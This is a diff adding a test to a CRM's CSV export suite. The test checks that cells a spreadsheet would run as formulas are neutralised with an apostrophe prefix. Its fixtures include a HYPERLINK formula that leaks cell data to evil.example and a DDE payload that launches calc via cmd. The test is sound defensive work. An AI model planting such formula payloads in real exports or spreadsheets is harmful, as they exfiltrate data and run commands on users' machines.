@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { inject, beforeAll, describe, expect, it } from 'vitest'
 import { make, newTenant, unique, type Tenant } from '../support/crm'
 import { call } from '../support/http'
@@ -73,5 +74,31 @@ describe('CSV export', () => {
     expect(foreign.text.trimEnd().split('\n')).toHaveLength(2)
     expect(foreign.text).toContain('Fremd')
     expect((await call('GET', '/api/v1/contacts/export')).status).toBe(401)
+  })
+
+  it('defuses every cell a spreadsheet would run as a formula, in each list export, and keeps the rest as it is', async () => {
+    const t = await newTenant('formula')
+    const link = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")'
+    const firm = await make(t.token, '/api/v1/companies', { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', industry: '+Handel' })
+    const person = await make(t.token, '/api/v1/contacts', { firstName: link, lastName: '-2+3', position: 'Einkauf = Chef', companyId: firm.id, email: 'formel@export.example' })
+    await make(t.token, '/api/v1/deals', { title: '=1+1', pipelineId: t.pipeline.id, contactId: person.id })
+    await make(t.token, '/api/v1/activities', { type: 'note', subject: '-cmd', note: '=1+1\nzweite Zeile', contactId: person.id })
+    const rows = async (kind: string) => {
+      const res = await download(t.token, `/api/v1/${kind}/export`)
+      expect(res.status, kind).toBe(200)
+      return parse(res.text, { columns: true, bom: true }) as Record<string, string>[]
+    }
+    const [contact] = await rows('contacts')
+    expect(contact).toMatchObject({ firstName: `'${link}`, lastName: '\'-2+3', position: 'Einkauf = Chef', email: 'formel@export.example', company: '\'@SUM(1+1)*cmd|\' /C calc\'!A0' })
+    const [company] = await rows('companies')
+    expect(company).toMatchObject({ name: '\'@SUM(1+1)*cmd|\' /C calc\'!A0', industry: '\'+Handel' })
+    const [deal] = await rows('deals')
+    expect(deal).toMatchObject({ title: '\'=1+1', contact: `'${link} -2+3`, value: '0.00' })
+    const [activity] = await rows('activities')
+    expect(activity).toMatchObject({ subject: '\'-cmd', note: '\'=1+1\nzweite Zeile', contact: `'${link} -2+3` })
+    // No cell of any of them starts with a formula character any more.
+    for (const row of [contact, company, deal, activity]) {
+      for (const [key, value] of Object.entries(row!)) expect(value, key).not.toMatch(/^[=+\-@\t\r]/)
+    }
   })
 })
